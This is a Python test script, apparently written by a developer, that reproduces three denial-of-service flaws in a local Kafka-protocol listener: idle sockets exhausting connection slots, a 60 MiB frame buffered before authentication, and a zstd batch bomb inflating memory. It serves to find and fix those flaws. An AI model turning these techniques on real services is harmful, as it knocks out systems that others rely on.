"""Kafka listener (branch `kafka`), live: three unauthenticated / cheap DoS paths.

1. max_connections idle sockets that never send a byte hold every slot for ever (no idle
   or pre-auth timeout): a real client is then refused, with SASL on.
2. Before authentication a client may announce a frame of max_request_bytes (100 MiB
   default) and the listener buffers it whole before looking at it (Kafka bounds
   pre-auth frames at sasl.server.max.receive.size, 512 KiB).
3. One Produce of a few KB with many small zstd batches makes the listener inflate and
   hold many times max_request_bytes (see kafka_multi_batch_bomb.py); here with
   max_request_bytes = 1 MiB the server's RSS grows by ~200 MiB for a 33 KB request.
Run: PYTHONPATH=<kafka worktree> python kafka_listener_dos.py
"""
import os, socket, struct, tempfile, time

import sqlstream
from sqlstream.kafka import listener as L, records as R
from sqlstream.kafka.handlers import Settings


def rss_mib() -> int:
    with open("/proc/self/status") as fh:
        for line in fh:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) // 1024
    return -1


def api_versions(port: int) -> str:
    s = socket.create_connection(("127.0.0.1", port), timeout=3)
    try:
        body = struct.pack(">hhih", 18, 0, 7, 3) + b"cli"
        s.sendall(struct.pack(">i", len(body)) + body)
        head = s.recv(4)
        return "answered" if len(head) == 4 else "closed without an answer"
    except OSError as exc:
        return f"error {exc}"
    finally:
        s.close()


def produce(port: int, topic: str, record_set: bytes) -> bytes:
    name = topic.encode()
    body = (struct.pack(">hhih", 0, 3, 9, 3) + b"cli" + struct.pack(">hhi", -1, 1, 30000)
            + struct.pack(">ih", 1, len(name)) + name + struct.pack(">iii", 1, 0, len(record_set)) + record_set)
    s = socket.create_connection(("127.0.0.1", port), timeout=60)
    s.sendall(struct.pack(">i", len(body)) + body)
    out = s.recv(4096)
    s.close()
    return out


d = tempfile.mkdtemp()
path = os.path.join(d, "k.db")
sqlstream.open(path).close()

# 1. idle sockets, SASL on
with L.start(path, Settings(host="127.0.0.1", port=0, max_connections=8, sasl_password="pw")) as lst:
    idle = [socket.create_connection(("127.0.0.1", lst.port)) for _ in range(8)]
    time.sleep(0.5)
    print("1. after 8 idle unauthenticated sockets, a real client:", api_versions(lst.port),
          "(expected: answered, or the idle ones dropped after a timeout)")
    for s in idle:
        s.close()

# 2. pre-auth frame of 60 MiB buffered (SASL on)
with L.start(path, Settings(host="127.0.0.1", port=0, sasl_password="pw")) as lst:
    before = rss_mib()
    s = socket.create_connection(("127.0.0.1", lst.port))
    size = 60 << 20
    s.sendall(struct.pack(">i", size))
    chunk = b"\0" * (1 << 20)
    sent = 0
    try:
        while sent < size - (1 << 20):
            s.sendall(chunk)
            sent += len(chunk)
    except OSError as exc:
        print("   send stopped:", exc)
    time.sleep(1)
    print(f"2. unauthenticated client sent {sent >> 20} MiB of one frame; the server RSS grew "
          f"{rss_mib() - before} MiB (expected: refused after a small pre-auth bound)")
    s.close()

# 3. produce bomb
with L.start(path, Settings(host="127.0.0.1", port=0, max_request_bytes=1 << 20)) as lst:
    value = b"\0" * ((1 << 18) - 200)
    batch = R.encode_batch(0, [R.KafkaRecord(0, None, value, ())] * 4, codec=4)
    before = rss_mib()
    reply = produce(lst.port, "bomb", batch * 200)
    db = sqlstream.open(path)
    info = {s.name: s.next_offset for s in db.streams()}
    db.close()
    print(f"3. a Produce request of {len(batch) * 200:,} bytes (max_request_bytes 1 MiB): server RSS "
          f"+{rss_mib() - before} MiB, records stored: {info}")
